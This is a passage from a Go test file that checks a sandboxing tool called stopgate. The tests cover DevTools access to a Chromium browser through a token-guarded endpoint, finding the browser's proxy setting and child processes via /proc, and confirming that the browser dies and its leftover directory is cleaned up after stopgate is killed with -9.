	if a := c.call(page, "Page.navigate", map[string]any{"url": site.URL + "/"}); a.Error != nil {
		t.Fatalf("navigate with the printed URL: %+v", a.Error)
	}
	if got, err := testkit.DebuggerURL("http://" + guard + "/run/victim/" + parts[2] + "/json/version"); err != nil || got != ws {
		t.Errorf("/json/version with the token: %v %q, want %q", err, got, ws)
	}
}

// browserProxyAddr is the --proxy-server of the Chromium serve started.
func browserProxyAddr(t *testing.T, serve int) string {
	t.Helper()
	var found string
	testkit.Eventually(t, 10*time.Second, "the browser's process is found", func() bool {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			cmdline, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
			if err != nil || !bytes.Contains(cmdline, []byte("--remote-debugging-pipe")) {
				continue
			}
			for _, arg := range strings.Split(string(cmdline), "\x00") {
				if v, ok := strings.CutPrefix(arg, "--proxy-server=http://"); ok && descendsFrom(e.Name(), serve) {
					found = v
					return true
				}
			}
		}
		return false
	})
	return found
}

// descendsFrom reports whether pid is a descendant of ancestor.
func descendsFrom(pid string, ancestor int) bool {
	for range 16 {
		stat, err := os.ReadFile(filepath.Join("/proc", pid, "stat"))
		if err != nil {
			return false
		}
		i := bytes.LastIndexByte(stat, ')')
		fields := strings.Fields(string(stat[i+1:]))
		if len(fields) < 2 {
			return false
		}
		if fields[1] == strconv.Itoa(ancestor) {
			return true
		}
		pid = fields[1]
	}
	return false
}

// TestBrowserDiesWithStopgate: a sandboxed browser does not outlive a
// stopgate killed with -9 (the kernel's parent-death signal reaches it in
// its own pid namespace, as the uid it was dropped to), and the next start
// removes what it left on the host.
func TestBrowserDiesWithStopgate(t *testing.T) {
	chromium := testkit.Chromium(t)
	tmp := t.TempDir()
	data := t.TempDir()
	env := []string{"TMPDIR=" + tmp}
	s := startServeWith(t, "", env, "--data-dir", data, "--chromium", chromium)
	s.must(t, 0, "browser", "--run", "orphan")
	var pids []string
	testkit.Eventually(t, 10*time.Second, "the browser's processes are found", func() bool {
		pids = descendants(s.Pid())
		return len(pids) > 0
	})
	s.Kill9()
	testkit.Eventually(t, 10*time.Second, "the browser's processes are gone", func() bool {
		for _, p := range pids {
			if _, err := os.Stat(filepath.Join("/proc", p)); err == nil {
				if st, _ := os.ReadFile(filepath.Join("/proc", p, "stat")); !bytes.Contains(st, []byte(") Z")) {
					return false
				}
			}
		}
		return true
	})
	left, _ := filepath.Glob(filepath.Join(tmp, "stopgate-browser-orphan-*"))
	if len(left) != 1 {
		t.Fatalf("the killed stopgate left %v, want its browser's directory", left)
	}
	startServeWith(t, "", env, "--data-dir", data, "--chromium", chromium)
	testkit.Eventually(t, 10*time.Second, "the next start removes the dead browser's directory", func() bool {
		_, err := os.Stat(left[0])
		return os.IsNotExist(err)
	})
}

// descendants are the processes below pid.
func descendants(pid int) []string {
	var out []string
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err == nil && descendsFrom(e.Name(), pid) {
			out = append(out, e.Name())
		}
	}
	return out
}
